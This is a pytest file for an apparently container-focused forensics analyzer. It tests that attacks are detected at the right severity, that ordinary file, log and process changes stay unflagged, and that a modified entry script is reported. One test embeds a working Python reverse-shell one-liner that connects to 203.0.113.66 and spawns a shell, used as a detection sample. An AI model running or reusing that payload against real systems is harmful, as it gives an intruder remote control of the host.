"""Attacks of the corpus through a whole case: each is found, by what it does, with the severity that it deserves."""

# ruff: noqa: E501 - a command stands on one line
from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from analyze_cases import ELF, F, layer, make_case, process, rules, tcp
from attack_corpus import ATTACKS, BASE, Attack

from forensics.analyze import build_analysis
from forensics.model import Outcome, Severity


def examine(root: Path, attack: Attack) -> Any:
    documents = dict(attack.documents)
    if attack.processes:
        documents["processes"] = {"processes": list(attack.processes), "views": {}}
    if attack.sockets:
        documents["sockets"] = {"sockets": list(attack.sockets)}
    layers = [layer(BASE), layer(attack.files, attack.removed, later=86_400)]
    with make_case(root, layers, documents) as case:
        return build_analysis(case, yara=attack.yara)


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_attack_is_found(tmp_path: Path, attack: Attack) -> None:
    analysis = examine(tmp_path / "case", attack)
    assert [line for line in analysis.ledger if line.outcome is Outcome.FAILED] == []
    shown = [(finding.rule, finding.severity.value) for finding in analysis.findings]
    grave = [finding.rule for finding in analysis.findings if finding.severity.rank <= attack.severity.rank]
    assert any(part in rule for rule in grave for part in attack.rules), shown


def test_attacks_have_names_of_their_own() -> None:
    names = [attack.name for attack in ATTACKS]
    assert len(names) == len(set(names))
    assert len(names) > 150


ORDINARY: dict[str, dict[str, F | bytes | str]] = {
    "application data": {"app/data/g.csv": "1,2\n", "app/cache/x.bin": bytes(range(256)), "var/lib/app/state.json": "{}\n"},
    "logs grew": {"var/log/auth.log": "Nov 1 sshd[1]: Accepted publickey\nmore\n", "var/log/nginx/access.log": "GET / 200\nGET / 200\n"},
    "logs rotated": {"var/log/nginx/access.log": "G", "var/log/nginx/access.log.1": "GET / 200\n"},
    "log rotated by date and begun anew": {"var/log/nginx/access.log": "", "var/log/nginx/access.log-20261122.gz": b"\x1f\x8b\x08 old"},
    "log rotated and begun anew": {"var/log/auth.log": "", "var/log/auth.log.1": "Nov 1 sshd[1]: Accepted publickey\n"},
    "history written at every prompt": {"root/.bashrc": "# ~/.bashrc\nPROMPT_COMMAND='history -a'\n"},
    "loader folder of an application": {"etc/ld.so.conf.d/app.conf": "/opt/app/lib\n"},
    "installer that fetches its own program": {"app/node_modules/tool/install.js": "const https=require('https'),fs=require('fs'),c=require('child_process');\nhttps.get('https://registry.invalid/t.tgz',res=>{let chunks=[];res.on('data',(chunk)=>chunks.push(chunk));res.on('end',()=>{fs.writeFileSync('bin/t',Buffer.concat(chunks));c.execFileSync('bin/t',['--version'])})})\n"},
    "history grew": {"root/.bash_history": "ls\nvim a\nls\n"},
    "compressed in place": {f"app/data/{n}.csv.gz": b"\x1f\x8b\x08" + bytes(64) for n in "abcdef"},
    "environment without code": {"etc/environment": "LANG=C.UTF-8\nNODE_OPTIONS=--max-old-space-size=4096\nJAVA_TOOL_OPTIONS=-Xmx1g\n"},
    "prompt and aliases": {"root/.bashrc": "# ~/.bashrc\nexport PS1='> '\nalias ll='ls -l'\nexport PATH=$PATH:/opt/app/bin\n"},
    "own hosts": {"etc/hosts": "127.0.0.1 localhost\n172.17.0.2 app\n10.0.0.3 db\n"},
    "name service switch reordered": {"etc/nsswitch.conf": "passwd: files systemd\ngroup: files systemd\nhosts: files mdns4_minimal [NOTFOUND=return] dns\n"},
    "udev without a program": {"etc/udev/rules.d/10-x.rules": 'SUBSYSTEM=="tty", MODE="0660"\n'},
    "package.json of a build tool": {"app/package.json": '{"name":"app","scripts":{"postinstall":"husky install","prepare":"npm run build"}}\n'},
    "python client": {"app/client.py": "import socket\ns=socket.create_connection(('db',5432))\ns.sendall(b'x')\nprint(s.recv(9))\n"},
    "python service that runs git": {"app/svc.py": "import socketserver,subprocess\nclass H(socketserver.BaseRequestHandler):\n  def handle(self): self.request.sendall(subprocess.check_output(['git','rev-parse','HEAD']))\nsocketserver.TCPServer(('',9000),H).serve_forever()\n"},
    "node server": {"app/server2.js": "const net=require('net');net.createServer(c=>c.pipe(c)).listen(7000)\n"},
    "names in other scripts": {"app/data/отчёт.txt": "x", "app/data/résumé.pdf": b"%PDF-", "app/data/報告.csv": "1"},
    "two dots in a name": {"app/data/report.2024.pdf": b"%PDF-1", "app/lib.min.js": "var a=1\n", "app/data/v1.2.txt": "x"},
}  # fmt: skip
GONE = {"compressed in place": tuple(f"app/data/{n}.csv" for n in "abcdef")}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_change_is_left_alone(tmp_path: Path, name: str) -> None:
    found = examine(tmp_path / "case", Attack(name, Severity.LOW, (), ORDINARY[name], GONE.get(name, ()), yara=True))
    assert {rule: finding.matched for rule, finding in rules(found.findings, Severity.MEDIUM).items()} == {}


def test_ordinary_processes_are_left_alone(tmp_path: Path) -> None:
    table = (
        process(10, ["/bin/sh", "/docker-entrypoint.sh", "nginx"], "/bin/bash", cwd="/"),
        process(11, ["node", "--require", "dotenv/config", "server.js"], "/usr/bin/node", cwd="/app", environ=["NODE_OPTIONS=--max-old-space-size=512"]),
        process(12, ["sh", "-c", "npm run start"], "/bin/bash", ppid=11),
        process(13, ["python3", "-m", "gunicorn", "app:app"], "/usr/bin/python3.11", environ=["PYTHONPATH=/app"]),
        process(14, ["java", "-javaagent:/opt/agent.jar", "-jar", "/app/a.jar"], "/opt/java/bin/java", environ=["JAVA_TOOL_OPTIONS=-Xmx1g"]),
        process(15, ["perl", "-w", "/usr/share/x/tool.pl"], "/usr/bin/perl"),
        process(16, ["ssh", "-N", "-o", "BatchMode=yes", "git@example.org"], "/usr/bin/ssh"),
        process(17, ["bash", "-c", "sleep infinity"], "/bin/bash"),
        process(18, ["python3", "-u", "/opt/run.py"], "/usr/bin/python3.11"),
        process(19, ["mysql", "-c", "-e", "select 1", "-h", "10.0.0.5"], "/usr/bin/mysql"),
        process(20, ["client", "--server", "db:5432"], "/usr/bin/client"),
    )  # fmt: skip
    files = {
        "docker-entrypoint.sh": '#!/bin/sh\nexec "$@"\n',
        "opt/run.py": "print(1)\n",
        "usr/share/x/tool.pl": "1;\n",
    }
    documents = {"processes": {"processes": list(table), "views": {}}, "sockets": {"sockets": [tcp("0.0.0.0:80")]}}
    with make_case(tmp_path / "case", [layer({**BASE, **files}), layer({})], documents) as case:
        found = rules(build_analysis(case, yara=False).findings, Severity.MEDIUM)
    assert {rule: finding.matched for rule, finding in found.items()} == {}


def test_a_script_of_a_temporary_file_system_is_judged_by_its_text(tmp_path: Path) -> None:
    code = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.66',443))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')\n"
    running = process(9, ["python3", "/dev/shm/a"], "/usr/bin/python3", cwd="/")
    documents = {"processes": {"processes": [running], "views": {}}}
    with make_case(tmp_path / "case", [layer(BASE), layer({})], documents) as case:
        case.add(
            "tmpfs", [layer({"a": code})], source="t", method="t", filename="c.tar", attributes={"mount": "/dev/shm"}
        )
        found = rules(build_analysis(case, yara=False).findings)
    finding = found["process.script.reverse-shell"]
    assert finding.severity is Severity.CRITICAL
    assert {(ref.pid, ref.path) for ref in finding.evidence} == {(9, None), (None, b"dev/shm/a")}


def test_a_changed_start_program_names_what_changed(tmp_path: Path) -> None:
    base = {**BASE, "entry.sh": F(b"#!/bin/sh\nexec app\n", 0o755)}
    config = {"inspect": {"Config": {"Cmd": ["./entry.sh"], "WorkingDir": "/", "User": "app"}, "HostConfig": {}}}
    changed = {"entry.sh": F(b"#!/bin/sh\n/opt/x &\nexec app\n", 0o755), "opt/x": F(ELF, 0o755)}
    with make_case(tmp_path / "case", [layer(base), layer(changed, later=9)], config) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert found["persistence.entry-point"].matched == "/entry.sh (modified)"
